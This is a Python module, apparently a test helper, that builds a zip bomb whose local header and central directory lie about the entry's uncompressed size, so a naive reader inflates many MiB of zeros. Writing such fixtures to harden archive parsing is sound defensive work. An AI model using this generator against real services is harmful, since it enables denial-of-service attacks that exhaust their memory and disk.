"""Hostile zip archives built in code: a bomb whose headers lie about how far it expands."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib


def lying_bomb(base: bytes, name: str, expanded_mb: int, declared: int = 1000) -> bytes:
    """Return `base` (a zip) plus entry `name` that inflates to `expanded_mb` MiB of zeros while
    both its local header and the central directory declare `declared` bytes.

    A reader trusting the declared sizes sees a tiny archive; one that inflates an entry in one
    call materializes the whole payload before the CRC check can fail.
    """
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    payload = b"".join(comp.compress(chunk) for _ in range(expanded_mb)) + comp.flush()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != name:  # an entry of `base` with that name is replaced
                zout.writestr(info.filename, zin.read(info))
        zout.writestr(name, b"x" * declared)
    data = bytearray(out.getvalue())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name)
    start = info.header_offset
    name_len, extra_len = struct.unpack("<HH", data[start + 26:start + 30])
    begin = start + 30 + name_len + extra_len
    delta = len(payload) - info.compress_size
    struct.pack_into("<I", data, start + 18, len(payload))  # compressed size; the declared size stays
    data[begin:begin + info.compress_size] = payload
    i = data.find(b"PK\x01\x02", begin + len(payload))
    while i >= 0:
        nl, el, cl = struct.unpack("<HHH", data[i + 28:i + 34])
        if bytes(data[i + 46:i + 46 + nl]) == name.encode():
            struct.pack_into("<I", data, i + 20, len(payload))
        else:
            off = struct.unpack("<I", data[i + 42:i + 46])[0]
            if off > start:
                struct.pack_into("<I", data, i + 42, off + delta)
        i = data.find(b"PK\x01\x02", i + 46 + nl + el + cl)
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<I", data, end + 16, struct.unpack("<I", data[end + 16:end + 20])[0] + delta)
    return bytes(data)
